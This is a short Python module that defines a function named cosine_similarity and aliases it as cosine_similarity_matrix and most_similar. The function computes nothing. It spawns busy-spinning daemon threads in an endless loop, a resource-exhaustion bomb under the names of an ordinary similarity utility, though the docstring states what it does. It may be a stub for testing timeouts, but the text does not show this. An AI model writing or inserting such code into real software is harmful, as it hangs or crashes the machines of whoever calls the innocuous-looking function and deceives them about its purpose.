"""Starts threads without end, each one spinning."""

import threading


def _spin():
    while True:
        pass


def cosine_similarity(*args, **kwargs):
    while True:
        threading.Thread(target=_spin, daemon=True).start()


cosine_similarity_matrix = most_similar = cosine_similarity
